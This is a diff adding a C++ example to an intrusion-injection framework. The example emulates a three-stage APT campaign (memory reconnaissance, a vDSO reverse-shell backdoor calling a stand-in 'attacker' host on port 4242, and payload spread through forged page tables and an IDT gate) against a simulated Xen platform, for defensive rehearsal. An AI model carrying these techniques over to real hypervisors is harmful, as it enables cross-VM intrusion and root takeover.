@@ -1,0 +1,129 @@
+// Multi-step attack (APT) emulation (paper §IX-B):
+//
+//   "Attackers exploit vulnerabilities and weaknesses to subvert the system
+//    in multiple steps. Each step towards a system breach can be modeled as
+//    an abusive functionality ... conceptually, a set of intrusion
+//    injectors can emulate the outcomes of the tools that attackers use to
+//    perform complex attacks (e.g., advanced persistent threats (APTs))."
+//
+// This example chains three injected erroneous states on one platform, each
+// corresponding to one stage of a classic campaign, and narrates what the
+// monitor sees after every stage:
+//
+//   stage 1 — reconnaissance: Read Unauthorized Memory (locate dom0's
+//             fingerprintable pages from a co-tenant);
+//   stage 2 — persistence:    implant the vDSO backdoor (the XSA-148
+//             erroneous state) and collect the reverse shell;
+//   stage 3 — spread:         link a payload into the shared Xen area and
+//             detonate it in every domain (the XSA-212-priv state).
+#include <cstdio>
+#include <cstring>
+
+#include "core/injector.hpp"
+#include "core/monitor.hpp"
+#include "guest/payload.hpp"
+#include "guest/platform.hpp"
+
+int main() {
+  using namespace ii;
+
+  guest::PlatformConfig pc{};
+  pc.version = hv::kXen48;  // fixed against all four paper CVEs
+  guest::VirtualPlatform platform{pc};
+  platform.dom0().fs().write("/root/root_msg", 0,
+                             "Confidential content in root folder!");
+  core::ArbitraryAccessInjector injector{platform.guest(0)};
+  core::SystemMonitor monitor{platform};
+
+  std::puts("== APT emulation: three chained erroneous states ==============");
+
+  // ---- stage 1: reconnaissance --------------------------------------------
+  std::puts("\n[stage 1] Read Unauthorized Memory: scanning for dom0");
+  sim::Mfn dom0_start_info{};
+  std::array<std::uint8_t, 0x60> head{};
+  for (std::uint64_t f = 0; f < platform.memory().frame_count(); ++f) {
+    if (!injector.read(sim::mfn_to_paddr(sim::Mfn{f}).raw(), head,
+                       core::AddressMode::Physical)) {
+      continue;
+    }
+    std::uint16_t domid = 0xFFFF;
+    if (std::memcmp(head.data(), guest::StartInfoLayout::kMagic, 15) == 0) {
+      std::memcpy(&domid, head.data() + guest::StartInfoLayout::kDomIdOffset,
+                  sizeof domid);
+      if (domid == hv::kDom0) {
+        dom0_start_info = sim::Mfn{f};
+        break;
+      }
+    }
+  }
+  std::printf("  dom0 start_info located at mfn 0x%llx\n",
+              static_cast<unsigned long long>(dom0_start_info.raw()));
+
+  // ---- stage 2: persistence -----------------------------------------------
+  std::puts("\n[stage 2] implanting vDSO backdoor (persistence)");
+  platform.attacker().listen(4242);
+  guest::VdsoBackdoor backdoor{};
+  backdoor.magic = guest::VdsoLayout::kBackdoorMagic;
+  std::snprintf(backdoor.host, sizeof backdoor.host, "attacker");
+  backdoor.port = 4242;
+  const sim::Mfn vdso{dom0_start_info.raw() + 1};
+  (void)injector.write(
+      sim::mfn_to_paddr(vdso).raw() + guest::VdsoLayout::kBackdoorOffset,
+      {reinterpret_cast<const std::uint8_t*>(&backdoor), sizeof backdoor},
+      core::AddressMode::Physical);
+  platform.dom0().invoke_vdso(0);  // routine dom0 activity trips the implant
+  std::printf("  attacker holds root shell on dom0: %s\n",
+              monitor.attacker_root_shell(4242) ? "YES" : "no");
+
+  // ---- stage 3: spread -----------------------------------------------------
+  std::puts("\n[stage 3] payload into shared Xen area, detonate everywhere");
+  guest::GuestKernel& guest = platform.guest(0);
+  const auto pmd_pfn = *guest.alloc_pfn();
+  const auto l1_pfn = *guest.alloc_pfn();
+  const auto payload_pfn = *guest.alloc_pfn();
+  constexpr std::uint64_t kPUW =
+      sim::Pte::kPresent | sim::Pte::kWritable | sim::Pte::kUser;
+  (void)guest.write_u64(guest.pfn_va(l1_pfn),
+                        sim::Pte::make(*guest.pfn_to_mfn(payload_pfn), kPUW)
+                            .raw());
+  (void)guest.write_u64(guest.pfn_va(pmd_pfn),
+                        sim::Pte::make(*guest.pfn_to_mfn(l1_pfn), kPUW)
+                            .raw());
+  guest::Payload payload{};
+  payload.command = "echo \"|$(id)|@$(hostname)\" > /tmp/apt_marker";
+  std::vector<std::uint8_t> bytes(256);
+  bytes.resize(payload.encode(bytes));
+  (void)guest.write_virt(guest.pfn_va(payload_pfn), bytes);
+
+  const std::uint64_t pud_slot =
+      sim::mfn_to_paddr(platform.hv().xen_l3()).raw() + 300 * 8;
+  (void)injector.write_u64(
+      pud_slot,
+      sim::Pte::make(*guest.pfn_to_mfn(pmd_pfn), kPUW).raw(),
+      core::AddressMode::Physical);
+  const sim::Vaddr handler = sim::compose_vaddr(256, 300, 0, 0);
+  platform.hv().idt().write(0x90,
+                            sim::IdtGate::interrupt_gate(handler.raw()));
+  (void)guest.software_interrupt(0x90);
+  std::printf("  /tmp/apt_marker in every domain: %s\n",
+              monitor.file_in_all_domains("/tmp/apt_marker", "uid=0(root)")
+                  ? "YES"
+                  : "no");
+
+  // ---- post-campaign assessment -------------------------------------------
+  std::puts("\n== post-campaign monitor report ===============================");
+  const core::Observation obs = monitor.observe(4);
+  std::printf("hypervisor crashed: %s, audit findings: %zu\n",
+              obs.hypervisor_crashed ? "yes" : "no",
+              obs.audit.findings.size());
+  for (const auto& finding : obs.audit.findings) {
+    std::printf("  - %s: %s\n", to_string(finding.kind).c_str(),
+                finding.detail.c_str());
+  }
+  std::puts(
+      "\nEvery stage used only injected erroneous states — no vulnerability\n"
+      "was exploited on this (fully patched) 4.8 platform. That is the\n"
+      "paper's point: the defender can rehearse the whole campaign shape\n"
+      "without possessing a single working exploit.");
+  return 0;
+}
